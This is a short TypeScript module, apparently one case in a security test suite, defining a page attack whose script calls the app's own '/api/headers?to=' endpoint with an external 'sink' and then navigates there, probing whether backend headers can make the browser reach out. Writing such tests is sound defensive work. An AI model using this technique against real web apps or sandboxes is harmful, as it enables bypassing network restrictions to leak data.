import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "headers of the own backend that make the browser reach out",
  script: `
    const frame = await fetch("/api/headers?to=" + encodeURIComponent(sink));
    await frame.text();
    location.href = "/api/headers?to=" + encodeURIComponent(sink);
    await new Promise((later) => setTimeout(later, 800));
  `,
};
